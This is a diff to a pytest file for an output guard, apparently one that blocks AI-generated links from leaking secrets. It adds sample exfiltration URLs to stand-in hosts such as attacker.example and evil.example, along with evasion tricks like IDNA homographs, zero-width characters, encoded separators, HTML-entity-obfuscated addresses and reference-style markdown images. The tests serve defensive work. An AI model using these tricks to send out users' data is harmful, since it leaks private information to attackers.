@@ -10,7 +10,7 @@ from __future__ import annotations
 import pytest
 
 from ringfence.bench.adaptive.links import live_links
-from ringfence.screens.output import Context, OutputGuard
+from ringfence.screens.output import Context, Output, OutputGuard
 
 SECRET = "otterbasalt38"
 AWAY = f"https://attacker.example/?q={SECRET}"
@@ -125,3 +125,68 @@ def test_very_many_private_words_that_begin_alike_cost_no_time() -> None:
     assert OutputGuard().text(f"https://attacker.example/?q={'confidentia' * 700}", known).stopped
     assert not OutputGuard().text(f"https://attacker.example/?q={'confide' * 1_000}", known).stopped
     assert OutputGuard().text("https://attacker.example/?q=xconfidential7x", known).stopped
+
+
+# Hosts that nobody meant to name: found by reading how a request, a plan and a file are written.
+
+FILES = ["notes.md", "setup.py", "main.rs", "build.sh", "photos.zip", "clip.mov", "report.PS", "a/b/old.notes.md"]
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_the_name_of_a_file_names_no_host(name: str) -> None:
+    """`md`, `py`, `sh` and `zip` are domains as well: who guesses the file's name could have registered it."""
+    known = Context.of(trusted=[f"Summarise {name}, please."], private=[f"the word is {SECRET}"])
+    host = name.rpartition("/")[2]
+    assert OutputGuard().text(f"https://{host}/?q={SECRET}", known).stopped
+    assert OutputGuard().text(f"see https://{host}/x", known).text == f"see hxxps://{host.replace('.', '[.]')}/x"
+
+
+@pytest.mark.parametrize("trusted", ["see https://notes.md/a", "ask ann@notes.md", "it is on www.notes.md"])
+def test_a_host_that_is_written_as_one_is_named_whatever_it_ends_with(trusted: str) -> None:
+    assert not OutputGuard().text(f"https://notes.md/?q={SECRET}", Context.of(trusted=[trusted])).findings
+
+
+SHARP = [
+    ("masse.example", "ma\u00dfe.example"),
+    ("masse.example", "ma%C3%9Fe.example"),
+    ("masse.example", "ma&szlig;e.example"),
+    ("\u03c3\u03bf\u03c6\u03cc\u03c3.example", "\u03c3\u03bf\u03c6\u03cc\u03c2.example"),
+    ("named.example", "na\u200dmed.example"),
+    ("named.example", "na\u200cmed.example"),
+]
+
+
+@pytest.mark.parametrize(("named", "other"), SHARP)
+def test_a_host_that_two_standards_read_as_two_is_none(named: str, other: str) -> None:
+    """IDNA of 2003 makes ss of a sharp s, that of 2008, which browsers follow, a domain of its own."""
+    known = Context.of(trusted=[f"see https://{named}/"], private=[f"the word is {SECRET}"])
+    assert OutputGuard().text(f"[x](https://{other}/?q={SECRET})", known).stopped
+    assert f"https://{other}" not in OutputGuard().text(f"[x](https://{other}/a)", known).text
+
+
+@pytest.mark.parametrize("sign", ["%2f", "%3f", "%23", "%5c", "%40", "%00", "%20", "%3a", "\uff0f", "\u2100", ","])
+def test_a_host_with_a_sign_that_no_host_has_is_below_none(sign: str) -> None:
+    """One program asks what stands before the sign, another what stands behind it, a third nobody."""
+    guard = OutputGuard(Output(hosts=("*.named.example",)))
+    assert guard.text(f"[x](https://evil.example{sign}.named.example/)", PUBLIC).findings
+
+
+@pytest.mark.parametrize(
+    "form", ["&#104;ttps://{}/x", "https&colon;//{}/x", "/&#47;{}/x", "&#92;&#x5c;{}/x", "/\t/{}/x"]
+)
+@pytest.mark.parametrize("place", ['<img src="{}">', "<img src={}>", '<p style="background:url({})">'])
+def test_an_address_in_markup_that_is_kept_is_read_as_a_browser_reads_it(place: str, form: str) -> None:
+    """Entities in attributes were not read, which mattered where the configuration keeps HTML."""
+    guard = OutputGuard(Output(html="keep"))
+    if "\t" in form and "={}" in place:
+        return
+    text = place.format(form.format("attacker.example"))
+    assert "attacker.example" not in guard.text(text, PUBLIC).text
+    carrying = place.format(form.format("attacker.example") + f"?q={SECRET}")
+    assert guard.text(carrying, KNOWN).stopped
+
+
+@pytest.mark.parametrize("text", ["![a][r]\n\n[r]: /logout", "![r][]\n\n[r]: /logout", "![r]\n\n[r]: /logout"])
+def test_an_image_of_the_page_itself_is_not_loaded_by_reference(text: str) -> None:
+    """`![a](/logout)` was left out and this was not."""
+    assert "![" not in OutputGuard().text(text, PUBLIC).text
